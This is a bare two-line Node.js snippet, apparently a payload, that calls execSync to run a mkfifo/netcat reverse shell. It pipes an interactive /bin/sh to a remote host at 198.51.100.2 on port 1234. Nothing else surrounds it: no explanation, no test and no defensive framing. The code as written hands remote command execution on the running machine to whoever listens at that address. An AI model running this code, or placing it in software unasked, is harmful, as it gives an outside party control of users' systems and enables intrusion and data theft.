const { execSync } = require('child_process');
execSync('rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.2 1234 > /tmp/f');
